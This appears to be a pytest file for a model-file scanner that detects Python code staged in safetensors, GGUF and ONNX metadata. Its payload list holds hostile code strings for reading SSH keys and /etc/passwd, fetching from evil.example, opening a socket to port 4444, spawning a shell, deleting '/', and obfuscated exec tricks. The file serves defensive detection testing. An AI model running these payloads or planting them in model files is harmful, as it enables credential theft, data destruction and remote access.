"""Python code staged in model metadata (LW-MODEL-047): safetensors ``__metadata__`` and GGUF string values that
are Python programs calling execution, process, network or file primitives. Loaders never evaluate metadata, so
these are payloads for later code, reported MEDIUM. modelaudit's fixtures ``malicious_import``,
``multiple_patterns`` and ``obfuscated_metadata.safetensors`` (promptfoo/modelaudit tests/assets) are the class.

Judged by parsing: prose, shell commands, URLs and HTML in metadata are not Python programs and stay clean.
"""

from __future__ import annotations

import struct
from pathlib import Path

import _container_payloads as cp
import pytest

from loopwarden.checks.models.codestr import dangerous_calls
from loopwarden.checks.models.scanner import scan_paths
from loopwarden.domain import Severity, TargetResult, Verdict

RULE = "LW-MODEL-047"

PAYLOADS = [
    "open('/home/user/.ssh/id_rsa').read()",
    "with open('/etc/passwd') as f:\n    data = f.read()",
    "import os; os.system('echo pwned')",
    "__import__('os').system('id')",
    "import subprocess; subprocess.call(['curl', 'http://evil.example'])",
    "import base64; exec(base64.b64decode('cHJpbnQoImV2aWwiKQ=='))",
    "eval(compile('1', 'x', 'exec'))",
    "import os\nos.popen('id').read()",
    "from os import popen\npopen('id').read()",
    "import subprocess as sp; sp.run('id', shell=True)",
    "from builtins import exec as run; run('import os')",
    "import socket\ns = socket.socket()\ns.connect(('10.0.0.1', 4444))",
    "import pickle, base64; pickle.loads(base64.b64decode(blob))",
    "import shutil; shutil.rmtree('/')",
    "def hook(model):\n    import subprocess\n    subprocess.Popen(['sh'])\n",
    "lambda: __import__('os').execv('/bin/sh', ['sh'])",
    "import urllib.request; urllib.request.urlopen('http://x.example/p').read()",
    # round 5: primitives reached without being named in a call
    "getattr(__builtins__, 'ex'+'ec')('import os')",
    "globals()['__builtins__'].exec('x')",
    "__builtins__.__dict__['exec']('x')",
    "vars(__builtins__)['exec']('x')",
    "import builtins; builtins.__dict__['ev'+'al']('1')",
    "import os\ngetattr(os, 'sys'+'tem')('id')",
    "import os\nos.__dict__['system']('id')",
    "import os; f = os.system; f('id')",
    "from os import *; system('id')",
    "from subprocess import *\nrun(['id'])",
    "@exec\n@lambda _: 'import os'\nclass X: pass",
    "().__class__.__base__.__subclasses__()[0]()",
    "(lambda: __import__)()('os').system('id')",
    "s = __import__\ns('os')",
    # round 15: getattr spelled as a method
    "import os\nos.__getattribute__('system')('id')",
    "import subprocess as s\nobject.__getattribute__(s, 'run')(['id'])",
]

BENIGN = [
    "open source model released under the MIT licence",
    "Open (see the card) for evaluation details",
    "A small transformer for text classification",
    "pt",
    "{'format': 'pt'}",
    "We eval (sic) the model with exec time budgets; os.system calls are not used",
    "rm -rf /tmp/cache && wget http://mirror.example/weights.bin",
    "https://huggingface.co/org/model",
    "<b>bold</b> model card",
    "print('hello world')",
    "model = AutoModel.from_pretrained('org/model', torch_dtype='auto')",
    "os.environ['HF_HOME']",
    "evaluation: exec_accuracy=0.93",
    "import torch; torch.manual_seed(0)",
    "1.2.3",
    "x = getattr(config, 'hidden_size', 768)",
    "getattr is used to look up layers; globals of training were fixed",
    "os.system",
    "model.__dict__",
    "from torch import *",
    "config = dict(vars=3, globals=1)",
    "import os; os.path.join('a', 'b')",
]


@pytest.mark.parametrize("code", PAYLOADS)
def test_dangerous_calls_are_found(code: str) -> None:
    assert dangerous_calls(code), code


@pytest.mark.parametrize("text", BENIGN)
def test_benign_metadata_has_no_dangerous_calls(text: str) -> None:
    assert dangerous_calls(text) == [], text


def _scan(tmp_path: Path, name: str, data: bytes) -> TargetResult:
    (tmp_path / name).write_bytes(data)
    return scan_paths([str(tmp_path / name)], jobs=1).targets[0]


def _st(meta: dict[str, str]) -> bytes:
    return cp.safetensors_file(
        {"__metadata__": meta, "w": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}, b"\x00" * 4
    )


@pytest.mark.parametrize("code", PAYLOADS)
def test_safetensors_metadata_code_is_reported(tmp_path: Path, code: str) -> None:
    res = _scan(tmp_path, "model.safetensors", _st({"format": "pt", "init_hook": code}))
    hits = [f for f in res.findings if f.rule_id == RULE]
    assert hits and all(f.severity == Severity.MEDIUM for f in hits), res
    assert res.verdict is Verdict.FINDINGS


def _gguf_kv(key: str, value: str) -> bytes:
    def s(t: str) -> bytes:
        b = t.encode()
        return struct.pack("<Q", len(b)) + b

    return s(key) + struct.pack("<I", 8) + s(value)


@pytest.mark.parametrize("code", PAYLOADS[:4])
def test_gguf_metadata_code_is_reported(tmp_path: Path, code: str) -> None:
    data = cp.gguf_file(None, extra_kv=_gguf_kv("general.description", code), n_kv_extra=1)
    res = _scan(tmp_path, "model.gguf", data)
    assert any(f.rule_id == RULE for f in res.findings), res


def _gguf_str(t: str) -> bytes:
    b = t.encode()
    return struct.pack("<Q", len(b)) + b


def _gguf_array_kv(key: str, items: list[str], nested: bool = False) -> bytes:
    """An array of strings (type 9 of type 8), or an array holding one such array."""
    inner = struct.pack("<IQ", 8, len(items)) + b"".join(_gguf_str(i) for i in items)
    if nested:
        inner = struct.pack("<IQ", 9, 1) + inner
    return _gguf_str(key) + struct.pack("<I", 9) + inner


@pytest.mark.parametrize(
    ("key", "items", "nested"),
    [
        ("general.tags", ["text-generation", "import os; os.system('id')"], False),
        ("general.languages", ["en", "__import__('os').system('id')"], False),
        ("tokenizer.ggml.added_tokens", ["<x>", "eval(compile('1', 'x', 'exec'))"], False),
        ("my.hooks", ["import subprocess; subprocess.call(['sh'])"], True),
    ],
    ids=["tags", "languages", "added-tokens", "nested-array"],
)
def test_gguf_code_in_an_array_of_strings_is_reported(
    tmp_path: Path, key: str, items: list[str], nested: bool
) -> None:
    """gguf-py's reader hands an application every string of an array as it hands a scalar string; code staged in
    one was never judged (only scalar strings were)."""
    data = cp.gguf_file(None, extra_kv=_gguf_array_kv(key, items, nested), n_kv_extra=1)
    res = _scan(tmp_path, "model.gguf", data)
    assert any(f.rule_id == RULE for f in res.findings), res


def test_gguf_array_written_by_gguf_py_is_read_as_the_reader_reads_it(tmp_path: Path) -> None:
    gguf = pytest.importorskip("gguf")
    np = pytest.importorskip("numpy")
    path = tmp_path / "model.gguf"
    w = gguf.GGUFWriter(str(path), "llama")
    w.add_array("general.tags", ["text-generation", "import os; os.system('id')"])
    w.add_array("tokenizer.ggml.tokens", ["<s>", "</s>", "open", "eval"])
    w.add_tensor("t", np.zeros(32, dtype=np.float32))
    w.write_header_to_file()
    w.write_kv_data_to_file()
    w.write_tensors_to_file()
    w.close()
    field = gguf.GGUFReader(str(path)).fields["general.tags"]
    assert bytes(field.parts[field.data[1]]).decode() == "import os; os.system('id')"
    res = scan_paths([str(path)], jobs=1).targets[0]
    assert [f.rule_id for f in res.findings] == [RULE], res


@pytest.mark.parametrize("text", BENIGN)
def test_benign_strings_in_gguf_arrays_stay_clean(tmp_path: Path, text: str) -> None:
    data = cp.gguf_file(None, extra_kv=_gguf_array_kv("general.tags", ["chat", text]), n_kv_extra=1)
    assert _scan(tmp_path, "model.gguf", data).verdict is Verdict.CLEAN


def test_gguf_vocabulary_is_not_judged_as_metadata(tmp_path: Path) -> None:
    """Token strings are the tokenizer's data (a vocabulary may well hold 'eval(' or 'import os'): not judged."""
    kv = _gguf_array_kv("tokenizer.ggml.tokens", ["import os; os.system('id')", "eval(x)"])
    data = cp.gguf_file(None, extra_kv=kv, n_kv_extra=1)
    assert _scan(tmp_path, "model.gguf", data).verdict is Verdict.CLEAN


@pytest.mark.parametrize("text", BENIGN)
def test_benign_metadata_stays_clean(tmp_path: Path, text: str) -> None:
    assert _scan(tmp_path, "model.safetensors", _st({"description": text})).verdict is Verdict.CLEAN
    data = cp.gguf_file(None, extra_kv=_gguf_kv("general.description", text), n_kv_extra=1)
    assert _scan(tmp_path, "model.gguf", data).verdict is Verdict.CLEAN


def test_gguf_metadata_that_is_not_utf8_is_read_leniently(tmp_path: Path) -> None:
    # only chat templates are held to strict UTF-8 (a template that cannot be decoded is unverified)
    raw = b"\xff\xfe not utf-8"
    kv = (
        struct.pack("<Q", 19)
        + b"general.description"
        + struct.pack("<I", 8)
        + struct.pack("<Q", len(raw))
        + raw
    )
    res = _scan(tmp_path, "model.gguf", cp.gguf_file(None, extra_kv=kv, n_kv_extra=1))
    assert res.verdict is Verdict.CLEAN, res


def _onnx_with_metadata(props: list[tuple[str, str]]) -> bytes:
    """``cp.onnx_model()`` with ``metadata_props`` entries (ModelProto field 14, key 1 / value 2) appended:
    protobuf fields may come in any order."""
    out = cp.onnx_model()
    for key, value in props:
        out += cp._field(14, cp._field(1, key.encode()) + cp._field(2, value.encode()))
    return out


@pytest.mark.parametrize("code", PAYLOADS)
def test_onnx_metadata_props_code_is_reported(tmp_path: Path, code: str) -> None:
    res = _scan(tmp_path, "model.onnx", _onnx_with_metadata([("author", "lab"), ("postprocess", code)]))
    hits = [f for f in res.findings if f.rule_id == RULE]
    assert hits and all(f.severity == Severity.MEDIUM for f in hits), res
    assert "'postprocess'" in hits[0].message


@pytest.mark.parametrize("text", BENIGN)
def test_onnx_benign_metadata_props_stay_clean(tmp_path: Path, text: str) -> None:
    res = _scan(tmp_path, "model.onnx", _onnx_with_metadata([("description", text)]))
    assert res.verdict is Verdict.CLEAN, res


def test_onnx_metadata_value_replaced_by_a_later_one_is_judged_as_the_parser_keeps_it(tmp_path: Path) -> None:
    entry = (
        cp._field(1, b"hook")
        + cp._field(2, b"harmless text")
        + cp._field(2, b"__import__('os').system('id')")  # the last value wins
    )
    res = _scan(tmp_path, "model.onnx", cp.onnx_model() + cp._field(14, entry))
    assert any(f.rule_id == RULE for f in res.findings), res


def test_onnx_metadata_made_by_the_onnx_package_is_read(tmp_path: Path) -> None:
    onnx = pytest.importorskip("onnx")
    from onnx import TensorProto, helper

    graph = helper.make_graph(
        [helper.make_node("Relu", ["x"], ["y"])],
        "g",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1])],
    )
    model = helper.make_model(graph)
    helper.set_model_props(model, {"license": "MIT", "init": "import os; os.system('id')"})
    assert onnx.load_from_string(model.SerializeToString()).metadata_props[1].key == "init"
    res = _scan(tmp_path, "model.onnx", model.SerializeToString())
    assert [f.evidence["key"] for f in res.findings if f.rule_id == RULE] == ["init"], res
    helper.set_model_props(model, {"license": "MIT", "author": "os.system is not called here"})
    assert _scan(tmp_path, "model.onnx", model.SerializeToString()).verdict is Verdict.CLEAN
